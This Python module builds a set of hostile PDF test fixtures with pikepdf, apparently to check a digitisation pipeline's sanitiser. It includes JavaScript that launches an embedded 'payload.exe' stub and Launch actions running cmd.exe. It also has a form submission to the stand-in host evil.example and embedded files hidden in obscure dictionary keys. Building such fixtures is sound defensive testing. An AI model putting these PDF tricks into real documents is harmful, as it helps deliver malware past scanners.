"""Born-digital PDFs carrying active content, attachments and PDF/A trouble, built with pikepdf.

Each file has one or two A4 pages with enough real text (over pipeline.load.MIN_TEXT_CHARS) to
be taken as born-digital, so its pages are copied into the output as they are.
"""

from __future__ import annotations

from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = b"Quyet dinh so 12/QD-UBND ve viec phe duyet ke hoach nam 2024"
JS = "app.alert('owned'); this.exportDataObject({cName: 'payload.exe', nLaunch: 2});"


def _js(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(JS)))


def _helvetica(pdf: pikepdf.Pdf, base: str = "Helvetica") -> pikepdf.Object:
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name("/" + base),
            Encoding=Name.WinAnsiEncoding,
        )
    )


def _page(pdf: pikepdf.Pdf, fonts: dict[str, pikepdf.Object], body: bytes) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(Font=Dictionary(fonts))
    page.obj.Contents = pdf.make_stream(body)
    return page


def _text(font: str = "/F1", y: int = 760, text: bytes = TEXT) -> bytes:
    return b"BT %s 12 Tf 56 %d Td (%s) Tj ET\n" % (font.encode(), y, text)


def _embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Object:
    payload = pdf.make_stream(b"MZ\x90\x00 pretend executable", Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String("payload.exe"),
            UF=String("payload.exe"),
            EF=Dictionary(F=payload),
        )
    )


def page_scripts(pdf: pikepdf.Pdf) -> None:
    """Page open/close JavaScript (/AA), Link annotations with JavaScript, Launch, GoToR, a
    javascript: URI, and one harmless web link that may stay."""
    page = _page(pdf, {"/F1": _helvetica(pdf)}, _text() + _text(y=700, text=b"https://example.org"))
    page.obj.AA = Dictionary(O=_js(pdf), C=_js(pdf))
    rect = Array([56, 690, 300, 715])
    actions = [
        _js(pdf),
        Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
        Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
        Dictionary(S=Name.ImportData, F=String("data.fdf")),
        Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=_js(pdf)),
        Dictionary(S=Name.URI, URI=String("https://example.org/")),  # the harmless one
    ]
    page.obj.Annots = pdf.make_indirect(
        Array(
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=rect,
                    A=action,
                    AA=Dictionary(E=_js(pdf)),
                )
            )
            for action in actions
        )
    )


def attachments(pdf: pikepdf.Pdf) -> None:
    """A FileAttachment annotation (with an appearance) and Sound/Screen/RichMedia annotations."""
    page = _page(pdf, {"/F1": _helvetica(pdf, "Times-Bold")}, _text())
    clip = pdf.make_stream(
        b"0 0 1 rg 0 0 20 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 20, 20]
    )
    page.obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=[56, 600, 76, 620],
                    F=4,
                    FS=_embedded_file(pdf),
                    AP=Dictionary(N=clip),
                    Contents=String("x"),
                )
            ),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Sound,
                    Rect=[80, 600, 100, 620],
                    F=4,
                    Sound=pdf.make_stream(b"\x00" * 64, R=8000, C=1, B=8, E=Name.Raw),
                )
            ),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Screen,
                    Rect=[110, 600, 130, 620],
                    F=4,
                    A=Dictionary(S=Name.Rendition, JS=String(JS)),
                    AP=Dictionary(N=clip),
                )
            ),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.RichMedia,
                    Rect=[140, 600, 160, 620],
                    F=4,
                    AP=Dictionary(N=clip),
                )
            ),
        ]
    )


def document_level(pdf: pikepdf.Pdf) -> None:
    """Catalog /OpenAction JavaScript, /AA, /Names /JavaScript and /EmbeddedFiles; an unembedded
    Times-Roman whose encoding has Differences."""
    times = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type1,
            BaseFont=Name("/Times-Roman"),
            Encoding=Dictionary(
                Differences=Array([39, Name.quoteright, 96, Name.quoteleft, 128, Name.Euro])
            ),
        )
    )
    body = _text() + _text("/F2", 700, b"`Quoted' 100 \\200 and more text")
    _page(pdf, {"/F1": _helvetica(pdf, "Courier"), "/F2": times}, body)
    pdf.Root.OpenAction = _js(pdf)
    pdf.Root.AA = Dictionary(WC=_js(pdf))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])),
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), _embedded_file(pdf)])),
    )


def form(pdf: pikepdf.Pdf) -> None:
    """An AcroForm with XFA and a filled text field whose widget has keystroke JavaScript; the
    field's value is visible only through the widget's appearance."""
    font = _helvetica(pdf)
    page = _page(pdf, {"/F1": font}, _text())
    look = pdf.make_stream(
        b"/Tx BMC BT /F1 11 Tf 2 5 Td (Nguyen Van A) Tj ET EMC",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 200, 20],
        Resources=Dictionary(Font=Dictionary(F1=font)),
    )
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("signer"),
            V=String("Nguyen Van A"),
            Rect=[56, 640, 256, 660],
            F=4,
            AP=Dictionary(N=look),
            AA=Dictionary(K=_js(pdf), Fo=_js(pdf)),
            P=page.obj,
        )
    )
    page.obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([widget]),
        DA=String("/F1 11 Tf 0 g"),
        XFA=pdf.make_stream(
            b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>evil()</script></xdp:xdp>"
        ),
    )


def shared_resources(pdf: pikepdf.Pdf) -> None:
    """Resources inherited from the page tree and a Form XObject with its own resources that
    carry an unembedded TrueType Arial, an ExtGState transfer function, a halftone, an image
    with /Alternates and /Interpolate, an LZW stream and an undefined operator; plus a second page
    drawing the same form."""
    arial = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.TrueType,
            BaseFont=Name("/Arial,Bold"),
            Encoding=Name.WinAnsiEncoding,
            FirstChar=32,
            LastChar=126,
            Widths=Array([278] * 95),  # wrong for most letters: the page's own widths still rule
            FontDescriptor=Dictionary(
                Type=Name.FontDescriptor,
                FontName=Name("/Arial,Bold"),
                Flags=32,
                FontBBox=[-628, -376, 2000, 1010],
                ItalicAngle=0,
                Ascent=905,
                Descent=-212,
                CapHeight=716,
                StemV=153,
            ),
        )
    )
    gray = pdf.make_stream(
        b"\x80" * 16,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=4,
        Height=4,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        Interpolate=True,
    )
    gray.Alternates = Array(
        [
            Dictionary(
                Image=pdf.make_stream(
                    b"\x00" * 16,
                    Type=Name.XObject,
                    Subtype=Name.Image,
                    Width=4,
                    Height=4,
                    ColorSpace=Name.DeviceGray,
                    BitsPerComponent=8,
                )
            )
        ]
    )
    state = Dictionary(Type=Name.ExtGState, TR=Name.Identity, HT=Name.Default, BM=Name.Bogus)
    form_body = b"/GS0 gs " + _text("/F2", 500) + b"q 40 0 0 40 56 420 cm /Im0 Do Q 1 2 3 bogusop\n"
    xform = pdf.make_stream(
        form_body,
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 595, 842],
        Resources=Dictionary(
            Font=Dictionary(F2=arial), XObject=Dictionary(Im0=gray), ExtGState=Dictionary(GS0=state)
        ),
    )
    lzw = pdf.make_stream(b"")
    lzw.write(_lzw(_text("/F1", 300)), filter=Name.LZWDecode)
    for _ in range(2):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Contents = Array([pdf.make_stream(_text() + b"/Fx Do\n"), lzw])
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    first.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[56, 750, 200, 770],
                Dest=Array([second, Name.Fit]),
            ),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[56, 720, 200, 740],
                A=Dictionary(S=Name.GoTo, D=String("chapter2")),
            ),
        ]
    )
    for page in pdf.pages:  # set last: adding a page pushes inherited resources down
        del page.obj["/Resources"]
    pdf.Root.Pages.Resources = Dictionary(
        Font=Dictionary(F1=_helvetica(pdf, "Helvetica-Oblique")), XObject=Dictionary(Fx=xform)
    )


def no_substitute(pdf: pikepdf.Pdf) -> None:
    """A page whose fonts cannot be embedded faithfully (Symbol, Verdana): not PDF/A."""
    symbol = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Symbol))
    verdana = pdf.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.TrueType,
            BaseFont=Name.Verdana,
            Encoding=Name.WinAnsiEncoding,
            FirstChar=32,
            LastChar=126,
            Widths=Array([600] * 95),
            FontDescriptor=Dictionary(
                Type=Name.FontDescriptor,
                FontName=Name.Verdana,
                Flags=32,
                FontBBox=[0, -200, 1000, 900],
                ItalicAngle=0,
                Ascent=900,
                Descent=-200,
                CapHeight=700,
                StemV=80,
            ),
        )
    )
    _page(pdf, {"/F1": verdana, "/F2": symbol}, _text() + _text("/F2", 700, b"abgd"))


def cmyk(pdf: pikepdf.Pdf) -> None:
    """Text and a rectangle painted in DeviceCMYK: sohoa's sRGB output intent cannot cover it."""
    _page(
        pdf, {"/F1": _helvetica(pdf)}, b"0 0 0 1 k " + _text() + b"1 0 0 0 k 56 600 100 50 re f\n"
    )


def layers(pdf: pikepdf.Pdf) -> None:
    """Optional content: marked content and a form XObject in layers, one of them off."""
    shown = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Shown")))
    hidden = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Hidden")))
    font = _helvetica(pdf)
    stamp = pdf.make_stream(
        _text("/F1", 400, b"DRAFT - not for release"),
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 595, 842],
        OC=hidden,
        Resources=Dictionary(Font=Dictionary(F1=font)),
    )
    page = _page(pdf, {"/F1": font}, b"/OC /L1 BDC " + _text() + b"EMC /St Do\n")
    page.obj.Resources.Properties = Dictionary(L1=shown)
    page.obj.Resources.XObject = Dictionary(St=stamp)
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([shown, hidden]),
        D=Dictionary(Order=Array([shown, hidden]), OFF=Array([hidden]), AS=Array([])),
    )


def hidden_files(pdf: pikepdf.Pdf) -> None:
    """Embedded files where no sanitiser looks: a marked-content property list, a custom key of
    the page, of its font, of a printed annotation (as an array item) and of that annotation's
    appearance, a Form XObject's and a tiling pattern's property lists, the source page tree;
    a file specification with related files (/RF) and a bare embedded file stream."""
    font = _helvetica(pdf)
    bare = pdf.make_stream(b"MZ\x90\x00 pretend executable", Type=Name.EmbeddedFile)
    related = Dictionary(
        Type=Name.Filespec,
        F=String("payload.exe"),
        UF=String("payload.exe"),
        RF=Dictionary(F=Array([String("payload.exe"), bare])),
    )
    form = pdf.make_stream(
        b"/Span /MC1 BDC " + _text("/F1", 500) + b"EMC\n",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 595, 842],
        Resources=Dictionary(
            Font=Dictionary(F1=font),
            Properties=Dictionary(MC1=Dictionary(Evil=_embedded_file(pdf))),
        ),
    )
    tile = pdf.make_stream(
        b"0 0 1 rg 0 0 5 5 re f",
        Type=Name.Pattern,
        PatternType=1,
        PaintType=1,
        TilingType=1,
        BBox=[0, 0, 10, 10],
        XStep=10,
        YStep=10,
        Resources=Dictionary(Properties=Dictionary(MC2=Dictionary(Evil=_embedded_file(pdf)))),
    )
    body = b"/Span /MC0 BDC " + _text() + b"EMC /Fx Do /Pattern cs /P0 scn 56 300 100 50 re f\n"
    page = _page(pdf, {"/F1": font}, body)
    page.obj.Resources.Properties = Dictionary(MC0=Dictionary(Evil=_embedded_file(pdf)))
    page.obj.Resources.XObject = Dictionary(Fx=form)
    page.obj.Resources.Pattern = Dictionary(P0=tile)
    page.obj.Evil = _embedded_file(pdf)
    page.obj.Related = related
    page.obj.Bare = bare
    font.Evil = _embedded_file(pdf)
    look = pdf.make_stream(
        b"1 0 0 rg 0 0 20 20 re f",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 20, 20],
        Evil=_embedded_file(pdf),
    )
    page.obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Square,
                    Rect=[56, 600, 76, 620],
                    F=4,
                    AP=Dictionary(N=look),
                    Evil=Array([String("x"), _embedded_file(pdf)]),
                )
            )
        ]
    )
    pdf.Root.Pages.Evil = _embedded_file(pdf)


def source_catalog(pdf: pikepdf.Pdf) -> None:
    """A custom key of the page points at the source's own catalog, so copying the page copies
    it: its /Names trees (JavaScript, EmbeddedFiles, an appearance carrying a file), a portable
    collection, an open action, a form with XFA, outlines whose items launch and run scripts
    (also down a /Next chain), and a structure element with a script action."""
    page = _page(pdf, {"/F1": _helvetica(pdf)}, _text())
    carrier = pdf.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1], Evil=_embedded_file(pdf)
    )
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])),
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), _embedded_file(pdf)])),
        AP=Dictionary(Names=Array([String("look"), carrier])),
        Dests=Dictionary(Names=Array([String("here"), Array([page.obj, Name.Fit])])),
    )
    pdf.Root.Collection = Dictionary(Type=Name.Collection, D=String("payload.exe"))
    pdf.Root.Collection.Evil = _embedded_file(pdf)
    pdf.Root.OpenAction = _js(pdf)
    pdf.Root.AA = Dictionary(WC=_js(pdf))
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    second = pdf.make_indirect(Dictionary(Title=String("b"), Parent=outlines, A=_js(pdf)))
    first = pdf.make_indirect(
        Dictionary(
            Title=String("a"),
            Parent=outlines,
            Next=second,
            A=Dictionary(
                S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=Array([_js(pdf), launch])
            ),
        )
    )
    second.Prev = first
    outlines.First, outlines.Last, outlines.Count = first, second, 2
    pdf.Root.Outlines = outlines
    tree = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    tree.K = Dictionary(Type=Name.StructElem, S=Name.P, P=tree, Pg=page.obj, A=_js(pdf))
    pdf.Root.StructTreeRoot = tree
    page.obj.Evil = pdf.Root
    page.obj.Outline = first  # and reached without the catalog too


def page_is_action(pdf: pikepdf.Pdf) -> None:
    """A page dictionary that is also a Launch action (the page itself cannot be taken out)."""
    page = _page(pdf, {"/F1": _helvetica(pdf)}, _text())
    page.obj.S = Name.Launch
    page.obj.F = String("cmd.exe")


HOSTILE = {
    "page_scripts": page_scripts,
    "attachments": attachments,
    "document_level": document_level,
    "form": form,
    "shared_resources": shared_resources,
    "no_substitute": no_substitute,
    "cmyk": cmyk,
    "layers": layers,
    "hidden_files": hidden_files,
    "source_catalog": source_catalog,
    "page_is_action": page_is_action,
}
NOT_PDFA = {"no_substitute": "Verdana", "cmyk": "DeviceCMYK"}  # name -> what the reason names


def write_hostile_set(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, build in HOSTILE.items():
        with pikepdf.new() as pdf:
            build(pdf)
            paths[name] = folder / f"{name}.pdf"
            pdf.save(paths[name])
    return paths


def _lzw(data: bytes) -> bytes:
    """LZW-encode for PDF's LZWDecode (no library in the project writes it). Short data only:
    with fewer than 250 new codes every code stays 9 bits wide."""
    assert len(data) < 250
    table = {bytes([i]): i for i in range(256)}
    codes, word = [256], b""
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        codes.append(table[word])
        table[candidate] = 258 + len(table) - 256
        word = bytes([byte])
    codes += [table[word], 257] if word else [257]
    bits = "".join(f"{code:09b}" for code in codes)
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8))
